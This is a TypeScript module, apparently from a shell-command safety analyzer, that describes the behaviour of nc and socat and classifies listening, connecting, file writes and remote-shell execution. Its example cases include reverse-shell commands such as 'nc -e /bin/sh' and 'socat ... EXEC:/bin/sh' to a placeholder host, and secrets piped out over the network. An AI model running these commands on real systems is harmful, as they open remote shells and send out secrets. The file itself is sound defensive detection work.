// nc and socat: sockets to and from anywhere, and programs behind them.

import type { Inner } from '../../bash/executors/inner.ts';
import { splitQuoted } from '../../bash/quoted.ts';
import { hole, knownText, singleText, unknownText } from '../../bash/values.ts';
import type { Effect, Value } from '../../effects.ts';
import {
  beginningOf,
  type Call,
  effect,
  hostOf,
  literal,
  nameTarget,
  pathTarget,
  unknownValue,
  write,
} from '../../tools/tool.ts';
import type { Card } from '../card.ts';
import { connect } from '../network.ts';

/** A program that reads from the network what it does. */
function networkFed(command: string): Inner {
  const argv = splitQuoted(command).map((word) => knownText(word));
  return { kind: 'argv', argv, input: unknownText(['network']) };
}

const nc: Card = {
  names: 'nc ncat netcat nc.openbsd nc.traditional',
  options:
    'l/listen p/source-port= e/exec= c/sh-exec= g= G= s/source= w/wait= q= i/interval= o/output= x/hex-dump= X= T= P= I= O= m/max-conns= k/keep-open n u/udp v z C N U/unixsock d D r t 4 6 b S h ssl ssl-cert= ssl-key= proxy= proxy-type= proxy-auth= allow= allowfile= deny= lua-exec= send-only recv-only broker chat V=',
  readings: {
    valued:
      'p source-port e exec c sh-exec g G s source w wait q i interval o output x hex-dump X T P I O m max-conns ssl-cert ssl-key proxy proxy-type proxy-auth allow allowfile deny lua-exec V',
    flags:
      'l listen k keep-open n u udp v z C N U unixsock d D r t 4 6 b S h ssl send-only recv-only broker chat',
  },
  facts: [
    {
      what: 'listens at a port',
      effects: (call, given) => {
        if (!given.has('listen')) return [];
        const [first, second] = given.operands;
        const place = given.last('source') ?? (second ? first : (given.last('source-port') ?? first));
        const detail = given.has('udp') ? 'udp' : 'tcp';
        return [effect(call, 'listen', { target: nameTarget(place), detail, origins: call.io.stdinOrigins })];
      },
      examples: {
        hit: {
          'nc -l 80': 'listen 80 (tcp)',
          'nc -lp 80': 'listen 80 (tcp)',
          'nc -l 127.0.0.1 80': 'listen 127.0.0.1 (tcp)',
          'nc -l -s a 80': 'listen a (tcp)',
          'ncat --listen -u 80': 'listen 80 (udp)',
          '$SECRET | nc -l 80': 'listen 80 (tcp) from secret',
        },
        miss: ['nc h.example 80'],
      },
    },
    {
      what: 'connects to a host',
      effects: (call, given) => {
        const [host] = given.operands;
        if (!host || given.has('listen')) return [];
        const plain = given.has('udp') ? 'udp' : 'tcp';
        const detail = given.has('z') ? 'probe' : call.io.stdinFed ? 'send' : plain;
        return [connect(call, host, detail, call.io.stdinOrigins)];
      },
      examples: {
        hit: {
          'nc h.example 80': 'connect h.example (tcp)',
          'nc -z h.example 80': 'connect h.example (probe)',
          'nc -u h.example 80': 'connect h.example (udp)',
          '$SECRET | nc h.example 80': 'connect h.example (send) from secret',
        },
        miss: ['nc -l 80', 'nc'],
      },
    },
    {
      what: 'lets the other side run a program',
      effects: (call, given) => {
        const runs = given.last('exec', 'sh-exec', 'lua-exec');
        return runs
          ? [effect(call, 'run', { detail: 'remote-shell', origins: ['network'], target: nameTarget(runs) })]
          : [];
      },
      starts: (_, given) =>
        given
          .all('exec', 'sh-exec', 'lua-exec')
          .map(singleText)
          .filter((text) => text !== hole)
          .map(networkFed),
      examples: {
        hit: {
          'nc -e /bin/sh h.example 80':
            'run /bin/sh (remote-shell) from network; program: /bin/sh < … from network',
          "ncat <-c --sh-exec --lua-exec --exec> 'a b' h.example 80":
            "run 'a b' (remote-shell) from network; program: a b < … from network",
          'nc -le /bin/sh 80': 'run /bin/sh (remote-shell) from network; program: /bin/sh < … from network',
          'nc -e $X h.example 80': 'run … (remote-shell) from network',
        },
        miss: ['nc h.example 80'],
      },
    },
    {
      what: 'saves what comes in',
      effects: (call, given) =>
        given
          .all('output', 'hex-dump')
          .flatMap((file) => write(call, file, { detail: 'overwrite', origins: ['network'] })),
      examples: {
        hit: { 'ncat <-o -x> out h.example 80': 'write out (overwrite) from network' },
        miss: ['nc h.example 80'],
      },
    },
  ],
  advice: [
    {
      rule: 'reverse_shell',
      programs: ['nc'],
      text: 'Check a connection without a shell behind it: `nc -z localhost 8080`.',
    },
  ],
};

const socatListens = /^(?:tcp|udp|sctp|openssl|ssl|unix|abstract|vsock)\w*-?l(?:isten)?$|^udp\d?-recv/i;
const socatConnects = /^(?:tcp|udp|sctp|openssl|ssl|socks|proxy|vsock)/i;

/** What one address of socat does. */
function addressEffects(call: Call, address: Value): readonly Effect[] {
  const text = beginningOf(address);
  const [kind = ''] = text.split(/[:,]/, 1);
  const rest = text.slice(text.indexOf(':') + 1);
  const [place = ''] = rest.split(',', 1);
  const [plain = text] = text.split(',', 1);
  const socket = (path: string): readonly Effect[] => [
    effect(call, 'write', { detail: 'socket', target: pathTarget(literal(path)) }),
  ];
  if (socatListens.test(kind)) {
    const bound = /\bbind=([^,]+)/.exec(text)?.[1] ?? place;
    const detail = /^(?:unix|abstract)/i.test(kind) ? 'forward' : kind.toLowerCase();
    return [effect(call, 'listen', { target: nameTarget(literal(bound)), detail })];
  }
  if (socatConnects.test(kind))
    return [connect(call, hostOf(literal(place)), kind.toLowerCase(), call.io.stdinOrigins)];
  if (/^(?:exec|system|shell)$/i.test(kind))
    return [
      effect(call, 'run', {
        detail: 'remote-shell',
        origins: ['network'],
        target: nameTarget(literal(rest)),
      }),
    ];
  if (/^(?:open|file|create|gopen|pipe)$/i.test(kind))
    return write(call, literal(place), { detail: 'overwrite' });
  if (/^unix(?:-connect|-client)?$/i.test(kind)) return socket(place);
  if (address.kind === 'unknown') return [connect(call, unknownValue, 'unknown')];
  if (!/^[/.]/.test(text)) return [];
  return /\.sock$|^\/(?:var\/)?run\//.test(place || text)
    ? socket(plain)
    : write(call, literal(plain), { detail: 'overwrite' });
}

const socat: Card = {
  names: 'socat',
  options: 'd v x u U T= t= b= L= W= s D h V ly? lf= lm? ls g 4 6',
  manner: { wholeWords: true },
  readings: { valued: 'T t b L W lf', flags: 'd v x u U s D h V ls g 4 6', attached: 'ly lm' },
  facts: [
    {
      what: 'joins two addresses',
      effects: (call, given) => {
        const found = given.operands.map((address) => addressEffects(call, address));
        const joinsNetwork = found.flat().some(({ kind }) => kind === 'listen' || kind === 'connect');
        return found.flat().map((one): Effect => {
          if (joinsNetwork) return one.kind === 'write' ? { ...one, origins: ['network'] } : one;
          return one.detail === 'remote-shell' ? { ...one, origins: [] } : one;
        });
      },
      starts: ({ args }) =>
        args
          .flatMap((arg) => arg.alternatives)
          .flatMap((text) => {
            const command = /^(?:EXEC|SYSTEM|SHELL):"?([^",]*)/i.exec(text)?.[1];
            return command === undefined ? [] : [networkFed(command)];
          }),
      examples: {
        hit: {
          'socat <tcp udp sctp openssl ssl>-listen:80 -': 'listen 80 (<>-listen)',
          'socat <tcp4-l udp-recv vsock-listen>:80 -': 'listen 80 (<>)',
          'socat <unix abstract>-listen:a -': 'listen a (forward)',
          'socat TCP-LISTEN:80,bind=127.0.0.1 out:a': 'listen 127.0.0.1 (tcp-listen)',
          'socat <tcp udp sctp openssl ssl socks proxy vsock>:h.example:80 -': 'connect h.example (<>)',
          'socat TCP:h.example:80 <EXEC system shell>:/bin/sh':
            'connect h.example (tcp); run /bin/sh (remote-shell) from network; program: /bin/sh < … from network',
          'socat - EXEC:id': 'run id (remote-shell); program: id < … from network',
          'socat TCP:h.example:80 <open file create gopen pipe>:a':
            'connect h.example (tcp); write a (overwrite) from network',
          'socat - <unix unix-connect unix-client>:a': 'write a (socket)',
          'socat - </run/a /var/run/a ./a.sock>': 'write <> (socket)',
          'socat TCP:h.example:80 ./a,b': 'connect h.example (tcp); write ./a (overwrite) from network',
          'socat -T 5 - ./a': 'write ./a (overwrite)',
          'socat - $X': 'connect … (unknown)',
          '$SECRET | socat - TCP:h.example:80': 'connect h.example (tcp) from secret',
        },
        miss: ['socat', 'socat -V', 'socat - stdout'],
      },
    },
  ],
};

export const cards: readonly Card[] = [nc, socat];
